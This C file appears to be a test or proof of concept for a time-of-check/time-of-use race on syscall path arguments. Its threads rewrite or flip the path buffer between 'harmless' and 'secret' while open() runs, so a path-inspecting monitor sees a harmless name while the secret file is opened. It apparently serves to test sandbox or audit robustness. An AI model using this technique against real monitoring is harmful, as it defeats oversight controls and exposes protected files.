/* SPDX-License-Identifier: Apache-2.0 OR MIT */
/*
 * Rewrites a path while the kernel holds its copy: a thread waits until the call is inside, which a FIFO makes
 * sure of, and puts a harmless name where the path was. Who reads the path at the call's return sees the
 * harmless one. A second race is lost by who reads it at the call's start.
 */
#include "attacker.h"
#include <pthread.h>

#define TRIES 200000

static char path[16];
static volatile bool over;

static void *rewrite(void *unused)
{
	usleep(200000);
	strcpy(path, "harmless");
	close(open("fifo", O_WRONLY));
	return unused;
}

static void *flip(void *unused)
{
	while (!over) {
		memcpy(path, "harmless", 9);
		memcpy(path, "secret", 7);
	}
	return unused;
}

int main(int argc, char **argv)
{
	struct stat wanted, got;
	pthread_t thread;
	int i, fd;

	begin(argc, argv);
	mark("harmless");
	require(stat("secret", &wanted) == 0 && mkfifo("fifo", 0600) == 0, "files");
	strcpy(path, "fifo");
	require(pthread_create(&thread, NULL, rewrite, NULL) == 0, "thread");
	require(open(path, O_RDONLY) >= 0, "open the FIFO");
	pthread_join(thread, NULL);
	require(!strcmp(path, "harmless"), "the race");

	require(pthread_create(&thread, NULL, flip, NULL) == 0, "thread");
	for (i = 0; i < TRIES && !over; i++) {
		fd = open(path, O_RDONLY);
		if (fd >= 0 && fstat(fd, &got) == 0)
			over = got.st_ino == wanted.st_ino;
		close(fd);
	}
	require(over, "the secret");
	pthread_join(thread, NULL);
	return 0;
}
